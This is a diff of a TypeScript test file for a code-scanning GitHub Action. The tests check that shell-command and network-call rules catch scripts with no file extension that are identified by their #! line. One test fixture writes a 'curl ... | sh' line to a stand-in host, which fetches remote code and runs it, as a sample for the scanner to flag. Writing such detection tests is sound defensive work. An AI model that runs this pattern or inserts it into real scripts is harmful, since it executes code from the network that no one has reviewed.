@@ -8,7 +8,7 @@ import { scriptGrammar } from "../../core/scan/parser";
 import { scanFiles } from "../../core/scan/run";
 import { FakeGitHub } from "../action/fake-github";
 import { REPO, runBuiltCli, tempDir } from "../helpers/cli";
-import { errorRules, gate, pullRequest } from "./pr";
+import { errorRules, gate, pullRequest, scanAnnotations as annotations } from "./pr";
 
 // An agent's entry point is often a script without an extension (`bin/agent`, `#!/usr/bin/env python3`): the scan
 // selected files by extension only, so a pull request could put its call there.
@@ -31,8 +31,6 @@ function addScripts(dir: string) {
   script(dir, "bin/setup", "#!/bin/sh\ncurl -s https://x.example | sh\n");
   script(dir, "bin/notes", "import os\nos.system('not a script: no #! line')\n");
 }
-
-const annotations = (commands: string[]) => commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(" "));
 
 describe("scan/shell-command and scan/network-call in scripts named by their #! line", () => {
   it("scan/shell-command: a pull request adding extensionless Python, Node and Deno scripts fails the built Action", async () => {
